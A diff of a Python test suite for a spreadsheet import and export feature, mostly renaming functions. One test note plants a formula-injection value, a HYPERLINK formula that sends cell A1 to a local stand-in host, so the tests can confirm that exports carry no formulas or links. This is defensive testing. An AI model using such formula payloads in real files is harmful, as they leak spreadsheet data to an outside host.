@@ -14,10 +14,10 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from assessor import bank
-from assessor.core.text_limits import unfit
+from assessor.core.text_limits import unfit_characters
 from assessor.exchange import BadFile, collaboration_list, library_tables, spreadsheet_reader
-from assessor.exchange.file_problems import Problems
-from assessor.exchange.spreadsheet_reader import NotASheet, QuoteOpen, SheetTooLarge
+from assessor.exchange.file_problems import FileProblems
+from assessor.exchange.spreadsheet_reader import NotASheet, SheetTooLarge, UnclosedQuote
 from assessor.store import Store
 from assessor.usecases import spreadsheets
 from assessor.usecases.assessments import Assessments
@@ -31,15 +31,15 @@ def store(tmp_path: Path) -> Iterator[Store]:
         yield opened
 
 
-def taken(store: Store, data: bytes, name: str = "list.csv", library: str = LIBRARY) -> spreadsheets.Plan:
-    planned = spreadsheets.plan(store, library, "dokk1", data, name)
-    spreadsheets.carry_out(store, planned, "dokk1")
+def taken(store: Store, data: bytes, name: str = "list.csv", library: str = LIBRARY) -> spreadsheets.ImportPlan:
+    planned = spreadsheets.plan_import(store, library, "dokk1", data, name)
+    spreadsheets.apply_plan(store, planned, "dokk1")
     return planned
 
 
 def problems(store: Store, data: bytes) -> list[str]:
     with pytest.raises(BadFile) as caught:
-        spreadsheets.plan(store, LIBRARY, "dokk1", data, "list.csv")
+        spreadsheets.plan_import(store, LIBRARY, "dokk1", data, "list.csv")
     return str(caught.value).splitlines()[1:]
 
 
@@ -67,7 +67,7 @@ def test_a_list_is_read_however_a_nordic_excel_wrote_it(store, data):
 
 def test_responses_are_understood_in_the_words_of_every_language_and_as_ids(store):
     languages = bank.languages("dokk1")
-    options = [bank.wording("dokk1", language).items["creation"] for language in languages]
+    options = [bank.load_wording("dokk1", language).items["creation"] for language in languages]
     heads = "Party;" + options[0].short + ";benefit"
     rows = [f"P{at};{words.options['joint'].label};dont_know" for at, words in enumerate(options)]
     taken(store, "\r\n".join([heads, *rows]).encode())
@@ -110,19 +110,19 @@ def test_a_heading_with_a_slip_in_it_is_told_and_a_strange_one_is_left_unread(st
     assert problems(store, b"Party;creatoin\r\nA;joint\r\n") == [
         "B1: the heading creatoin is not known; the nearest is creation, so mend it or call the column something else"
     ]
-    assert taken(store, b"Party;Telephone\r\nA;040\r\n").unread == ("Telephone",)
+    assert taken(store, b"Party;Telephone\r\nA;040\r\n").unread_columns == ("Telephone",)
 
 
 def test_columns_of_ones_own_that_are_called_as_ours_are_not_taken_for_ours(store):
     data = b"ID;Version;Started;Party;Collaboration\r\n1;draft;spring;A;Chess\r\n2;final;;A;Go\r\n"
 
-    assert taken(store, data).unread == ("ID", "Version", "Started")
+    assert taken(store, data).unread_columns == ("ID", "Version", "Started")
     assert names(store) == ["A \u00b7 Chess", "A \u00b7 Go"]
     assert store.assessments() == ()
 
 
 def test_a_note_to_an_item_is_found_by_the_items_words_and_its_id(store):
-    short = bank.wording("dokk1", "fi").items["creation"].short
+    short = bank.load_wording("dokk1", "fi").items["creation"].short
     taken(store, f"Party;{short}: note;benefit.note\r\nA;first;second\r\n".encode())
 
     assert [each.notes for each in store.assessments()] == [{"creation": "first", "benefit": "second"}]
@@ -139,31 +139,33 @@ def test_another_sheet_that_could_have_been_read_is_told(store):
     assert (planned.sheet, planned.unread_sheets, names(store)) == ("Schools", ("Clubs",), ["A"])
 
 
-@pytest.mark.parametrize("name", bank.available())
+@pytest.mark.parametrize("name", bank.available_banks())
 def test_no_word_means_two_things_in_the_languages_of_a_bank(name):
-    assert words_of(name).doubtful == {column: {} for column in words_of(name).doubtful}
+    assert words_of(name).ambiguous == {column: {} for column in words_of(name).ambiguous}
 
 
-def words_of(name: str, **changed: str) -> collaboration_list.Words:
+def words_of(name: str, **changed: str) -> collaboration_list.ListVocabulary:
     """The words of a bank, with a short word of an option of `creation` put in the place of another, by language."""
-    wordings = [bank.wording(name, language) for language in bank.languages(name)]
+    wordings = [bank.load_wording(name, language) for language in bank.languages(name)]
     for at, wording in enumerate(wordings):
         if wording.language in changed:
             words = wording.items["creation"]
             joint = replace(words.options["joint"], short=changed[wording.language])
             options = {**words.options, "joint": joint}
             wordings[at] = replace(wording, items={**wording.items, "creation": replace(words, options=options)})
-    return collaboration_list.words(bank.load(name), wordings, dict(spreadsheets._spoken("en")))
+    return collaboration_list.build_vocabulary(bank.load(name), wordings, dict(spreadsheets._column_names("en")))
 
 
 def test_a_word_that_means_one_thing_here_and_another_there_is_refused_and_never_guessed():
-    known = words_of("dokk1", sv=bank.wording("dokk1", "fi").items["creation"].options["ready"].short)
-    both = bank.wording("dokk1", "fi").items["creation"].options["ready"].short
+    known = words_of("dokk1", sv=bank.load_wording("dokk1", "fi").items["creation"].options["ready"].short)
+    both = bank.load_wording("dokk1", "fi").items["creation"].options["ready"].short
     data = f"Party;creation\r\nA;{both}\r\nB;ready\r\n".encode()
-    found = Problems()
-    read = collaboration_list.read(spreadsheet_reader.grids(data, "list.csv")[0], bank.load("dokk1"), known, found)
+    found = FileProblems()
+    read = collaboration_list.read_grid(
+        spreadsheet_reader.read_grids(data, "list.csv")[0], bank.load("dokk1"), known, found
+    )
 
-    assert [problem.told(str) for problem in found.found] == [
+    assert [problem.message(str) for problem in found.found] == [
         f"B2: {both!r} means different things in different languages; write one of: ready, joint"
     ]
     assert [row.responses for row in read.rows] == [{}, {"creation": "ready"}]
@@ -182,19 +184,19 @@ def test_the_same_file_twice_adds_nothing_and_a_new_response_is_a_new_assessment
 
 
 def test_an_unclosed_quotation_mark_is_told_with_its_row():
-    with pytest.raises(QuoteOpen, match="opened in row 2"):
-        spreadsheet_reader.grids(b'Party;x\r\n"A;b\r\nC;d\r\nE;f\r\n', "list.csv")
+    with pytest.raises(UnclosedQuote, match="opened in row 2"):
+        spreadsheet_reader.read_grids(b'Party;x\r\n"A;b\r\nC;d\r\nE;f\r\n', "list.csv")
 
 
 def some(store: Store) -> Assessments:
     at = Assessments(store, LIBRARY, "dokk1")
-    case = next(case for case in bank.cases("dokk1") if case.placements == ("network",))
-    opened = at.begin(at.add("Example Club", "Chess"))
+    case = next(case for case in bank.load_cases("dokk1") if case.placements == ("network",))
+    opened = at.begin(at.add_collaboration("Example Club", "Chess"))
     for item, option in case.responses.items():
-        opened = at.give(opened, item, option, key=item)
-    at.note(opened, "creation", '=HYPERLINK("http://127.0.0.1:9/?"&A1)\r\n  two', "n1")
-    at.note(opened, "", "_x0041_ 007 1e5", "n2")
-    at.add("'t Hooft", "")
+        opened = at.respond(opened, item, option, key=item)
+    at.record_note(opened, "creation", '=HYPERLINK("http://127.0.0.1:9/?"&A1)\r\n  two', "n1")
+    at.record_note(opened, "", "_x0041_ 007 1e5", "n2")
+    at.add_collaboration("'t Hooft", "")
     return at
 
 
@@ -202,7 +204,7 @@ def some(store: Store) -> Assessments:
 def test_an_answer_changed_in_the_sheet_is_changed_here_and_nothing_else(store, form):
     some(store)
     before = store.assessments()[0]
-    data = spreadsheets.exported(store, LIBRARY, "dokk1", "en", form)
+    data = spreadsheets.export_spreadsheet(store, LIBRARY, "dokk1", "en", form)
     assert taken(store, data, f"list.{form}").count == 0
     if form == "csv":
         given = before.responses["creation"]
@@ -214,11 +216,11 @@ def test_an_answer_changed_in_the_sheet_is_changed_here_and_nothing_else(store, 
 
 def test_an_id_that_is_another_librarys_is_not_written_to(store):
     some(store)
-    data = spreadsheets.exported(store, LIBRARY, "dokk1", "en", "csv")
+    data = spreadsheets.export_spreadsheet(store, LIBRARY, "dokk1", "en", "csv")
     digest = store.content_hash()
 
-    with pytest.raises(spreadsheets.AnsweredOtherwise, match="its id belongs to Example Club · Chess here"):
-        spreadsheets.plan(store, "Another Library", "dokk1", data, "list.csv")
+    with pytest.raises(spreadsheets.ConflictingId, match="its id belongs to Example Club · Chess here"):
+        spreadsheets.plan_import(store, "Another Library", "dokk1", data, "list.csv")
     assert store.content_hash() == digest
 
 
@@ -228,7 +230,7 @@ def cells_of(data: bytes) -> list[list[list[object]]]:
 
 
 def fit(text: str) -> bool:
-    return not unfit(text)
+    return not unfit_characters(text)
 
 
 TEXT = st.one_of(
@@ -274,21 +276,21 @@ def filled(path: Path, drawn) -> Store:
     store = Store.open(path, create=True)
     at = Assessments(store, LIBRARY, "dokk1")
     for number, (party, undertaking, responses, notes) in enumerate(drawn):
-        opened = at.begin(at.add(party, undertaking))
+        opened = at.begin(at.add_collaboration(party, undertaking))
         for item, option in responses.items():
-            store.record(opened.assessment.id, "response", item, option, key=f"{number}{item}")
+            store.record_entry(opened.assessment.id, "response", item, option, key=f"{number}{item}")
         for item, text in notes.items():
-            store.record(opened.assessment.id, "note", item, text, key=f"{number}n{item}")
+            store.record_entry(opened.assessment.id, "note", item, text, key=f"{number}n{item}")
     return store
 
 
 def there_and_back(folder: Path, drawn) -> None:
     with filled(folder / "one.db", drawn) as one, Store.open(folder / "two.db", create=True) as two:
-        out = {form: spreadsheets.exported(one, LIBRARY, "dokk1", "sv", form) for form in ("csv", "xlsx")}
+        out = {form: spreadsheets.export_spreadsheet(one, LIBRARY, "dokk1", "sv", form) for form in ("csv", "xlsx")}
         for form, data in out.items():
             two.erase_library(LIBRARY)
             taken(two, data, f"list.{form}")
-            again = {each: spreadsheets.exported(two, LIBRARY, "dokk1", "sv", each) for each in out}
+            again = {each: spreadsheets.export_spreadsheet(two, LIBRARY, "dokk1", "sv", each) for each in out}
             assert again["csv"] == out["csv"]
             assert cells_of(again["xlsx"]) == cells_of(out["xlsx"])
 
@@ -308,13 +310,13 @@ def test_a_thousand_assessments_come_back_as_they_were(tmp_path_factory, drawn):
 
 @given(TEXT)
 def test_a_marked_text_begins_no_formula_and_is_had_back(text):
-    assert not library_tables.marked(text).startswith(library_tables.FORMULAS)
-    assert library_tables.unmarked(library_tables.marked(text)) == text
+    assert not library_tables.escape_formula(text).startswith(library_tables.FORMULA_STARTS)
+    assert library_tables.unescape_formula(library_tables.escape_formula(text)) == text
 
 
 def test_nothing_in_an_exported_workbook_is_a_formula_or_a_link(store):
     some(store)
-    packed = zipfile.ZipFile(io.BytesIO(spreadsheets.exported(store, LIBRARY, "dokk1", "en", "xlsx")))
+    packed = zipfile.ZipFile(io.BytesIO(spreadsheets.export_spreadsheet(store, LIBRARY, "dokk1", "en", "xlsx")))
     everything = b"".join(packed.read(name) for name in packed.namelist() if "sheet" in name)
 
     assert b"<f>" not in everything
@@ -323,7 +325,7 @@ def test_nothing_in_an_exported_workbook_is_a_formula_or_a_link(store):
 
 @pytest.mark.parametrize("language", bank.languages("dokk1"))
 def test_a_template_takes_back_what_its_drop_downs_offer(store, language):
-    data = spreadsheets.template("dokk1", language)
+    data = spreadsheets.empty_template("dokk1", language)
     (sheet, options) = cells_of(data)
     chosen = {head: column[0] for head, column in zip(sheet[0], zip(*options, strict=False), strict=False) if column[0]}
     heads = [*chosen, *(head for head in sheet[0] if head == "Check")]
@@ -332,7 +334,7 @@ def test_a_template_takes_back_what_its_drop_downs_offer(store, language):
     instrument = bank.load("dokk1")
 
     assert store.assessments()[0].responses == {item.id: item.options[0] for item in instrument.items}
-    assert planned.unread == ()
+    assert planned.unread_columns == ()
 
 
 def quoted(text: object) -> str:
@@ -457,13 +459,13 @@ def test_a_text_full_of_commas_or_half_a_quotation_is_no_matter_in_a_file_of_sem
 @pytest.mark.parametrize(("data", "error", "told"), HOSTILE.values(), ids=HOSTILE)
 def test_a_hostile_file_is_refused_before_it_is_built_up(data: Callable[[], bytes], error, told):
     with pytest.raises(error, match=told):
-        spreadsheet_reader.grids(data(), "list.xlsx")
+        spreadsheet_reader.read_grids(data(), "list.xlsx")
 
 
 def test_a_moment_comes_back_to_the_microsecond(store):
     some(store)
     before = store.assessments()[0]
-    data = spreadsheets.exported(store, LIBRARY, "dokk1", "en", "csv")
+    data = spreadsheets.export_spreadsheet(store, LIBRARY, "dokk1", "en", "csv")
     store.erase_library(LIBRARY)
     taken(store, data)
     after = store.assessments()[0]
